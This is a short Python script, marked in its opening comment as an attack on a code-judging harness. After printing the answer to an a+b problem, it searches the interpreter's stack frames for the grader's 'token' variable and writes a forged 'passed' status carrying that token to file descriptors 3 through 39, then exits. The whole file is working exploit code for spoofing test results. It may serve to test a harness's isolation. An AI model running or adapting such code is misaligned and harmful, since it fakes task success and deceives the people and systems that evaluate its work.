# attack: print the answer, then walk frames for a token and write a "passed" status to every descriptor, then exit
import os, sys, json
a, b = map(int, input().split())
print(a + b)
sys.stdout.flush()
tok = '0' * 32
f = sys._getframe()
while f is not None:
    for k, v in f.f_locals.items():
        if k == 'token' and isinstance(v, str):
            tok = v
    f = f.f_back
for fd in range(3, 40):
    try:
        os.write(fd, ('\n' + json.dumps({"status": "passed", "etype": "", "token": tok}) + '\n').encode())
    except OSError:
        pass
os._exit(0)
